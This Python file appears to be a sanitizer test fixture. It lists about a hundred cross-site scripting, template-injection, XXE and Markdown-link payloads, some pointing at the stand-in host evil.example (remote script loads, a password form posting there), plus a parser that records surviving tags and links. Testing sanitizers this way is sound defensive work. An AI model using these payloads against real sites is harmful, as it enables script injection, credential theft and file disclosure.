"""A hundred texts that people type to break a page, and a reader of what became of them."""

from html.parser import HTMLParser

SCRIPT = "alert(1)"

ELEMENTS = [
    f"<script>{SCRIPT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{SCRIPT}",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"<script/x>{SCRIPT}</script>",
    f"<script\n>{SCRIPT}</script\n>",
    f"<img src=x onerror={SCRIPT}>",
    f'<img src="x" onerror="{SCRIPT}"',
    f"<img/src=x/onerror={SCRIPT}>",
    f'<IMG """><SCRIPT>{SCRIPT}</SCRIPT>">',
    f"<svg onload={SCRIPT}>",
    f"<svg/onload={SCRIPT}//",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><a xlink:href=javascript:{SCRIPT}><text>x</text></a></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror={SCRIPT}>'>",
    f"<math href=javascript:{SCRIPT}>x</math>",
    f"<iframe src=javascript:{SCRIPT}></iframe>",
    f"<iframe srcdoc='<script>{SCRIPT}</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<style>*{{background:url('javascript:{SCRIPT}')}}</style>",
    f"<div style='background:url(javascript:{SCRIPT})'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    f"<body onload={SCRIPT}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<select autofocus onfocus={SCRIPT}>",
    f"<textarea autofocus onfocus={SCRIPT}>",
    f"<button formaction=javascript:{SCRIPT}>x</button>",
    "<form action=//evil.example><input name=password></form>",
    f"<details open ontoggle={SCRIPT}>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<audio src onerror={SCRIPT}>",
    f"<marquee onstart={SCRIPT}>x</marquee>",
    f"<a href=javascript:{SCRIPT}>x</a>",
    f"<a href='&#106;avascript:{SCRIPT}'>x</a>",
    f"<a href=' javascript:{SCRIPT}'>x</a>",
    f"<a href='java\tscript:{SCRIPT}'>x</a>",
    f"<a href='vbscript:{SCRIPT}'>x</a>",
    f"<a onmouseover={SCRIPT}>x</a>",
    f"<p onclick={SCRIPT}>x</p>",
    f"<b style=x:expression({SCRIPT})>x</b>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<xmp><script>{SCRIPT}</script></xmp>",
    f"<plaintext><script>{SCRIPT}</script>",
    f"<title></title><script>{SCRIPT}</script>",
    f"<!--><script>{SCRIPT}</script>-->",
    f"<![CDATA[<script>{SCRIPT}</script>]]>",
    f"<?xml version='1.0'?><script>{SCRIPT}</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]

BREAKOUTS = [
    f'"><script>{SCRIPT}</script>',
    f"'><script>{SCRIPT}</script>",
    f'" onmouseover="{SCRIPT}',
    f"' onmouseover='{SCRIPT}",
    f"` onmouseover=`{SCRIPT}",
    f'" autofocus onfocus={SCRIPT} x="',
    f"</title><script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"</style><script>{SCRIPT}</script>",
    f"--><script>{SCRIPT}</script><!--",
    f"</b></p></div><script>{SCRIPT}</script>",
    f'\\"><script>{SCRIPT}</script>',
    f"\u2028<script>{SCRIPT}</script>",
    f"＜script＞{SCRIPT}＜/script＞",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;script&#62;{SCRIPT}&#60;/script&#62;",
    f"%3Cscript%3E{SCRIPT}%3C/script%3E",
    f"+ADw-script+AD4-{SCRIPT}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
]

MARKDOWN = [
    f"[x](javascript:{SCRIPT})",
    f"[x](JaVaScRiPt:{SCRIPT})",
    f"[x](javascript&colon;{SCRIPT})",
    f"[x](&#106;avascript:{SCRIPT})",
    f"[x]( javascript:{SCRIPT})",
    f"[x](<javascript:{SCRIPT}>)",
    f"[x](vbscript:{SCRIPT})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    f'[x](https://example.com "\\" onmouseover=\\"{SCRIPT}")',
    f'[x](https://example.com/" onmouseover="{SCRIPT})',
    f"[x](https://example.com/'onmouseover='{SCRIPT})",
    f"![x](x onerror={SCRIPT})",
    f"![x](javascript:{SCRIPT})",
    f'![x](https://example.com/"onerror="{SCRIPT})',
    f"[<img src=x onerror={SCRIPT}>](https://example.com)",
    f"[x]: javascript:{SCRIPT}\n\n[x]",
    f"<javascript:{SCRIPT}>",
    f"`</code><script>{SCRIPT}</script>`",
    f"> <script>{SCRIPT}</script>",
    f"- <img src=x onerror={SCRIPT}>",
    f"**<svg onload={SCRIPT}>**",
]

HOSTILE = ELEMENTS + BREAKOUTS + MARKDOWN


class Reader(HTMLParser):
    """What a browser would find in a piece of HTML."""

    def __init__(self, html):
        super().__init__()
        self.tags = set()
        self.attributes = set()
        self.links = set()
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attributes)
        self.links.update(value for name, value in attributes if name in {"href", "src", "action"})
